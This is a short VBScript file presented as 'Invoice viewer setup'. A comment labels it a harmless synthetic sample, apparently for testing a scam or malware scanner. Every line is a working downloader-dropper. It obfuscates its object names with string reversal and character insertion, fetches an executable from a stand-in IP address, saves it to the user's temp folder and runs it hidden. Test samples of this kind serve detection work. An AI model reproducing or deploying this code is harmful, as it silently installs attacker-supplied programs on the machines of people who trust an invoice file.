' Invoice viewer setup. scamscan synthetic sample - harmless text, not malware
Set http = CreateObject(StrReverse("PTTHLMX.2LMXSM"))
http.Open "GET", "http://198.51.100.21/viewer.exe", False
http.Send
Set st = CreateObject(Replace("ADO#DB.Str#eam", "#", ""))
st.Type = 1 : st.Open : st.Write http.ResponseBody
Set sh = CreateObject(Replace("WSc#ript.Sh#ell", "#", ""))
path = sh.ExpandEnvironmentStrings("%TEMP%") & "\viewer.exe"
st.SaveToFile path, 2
sh.Run path, 0, False
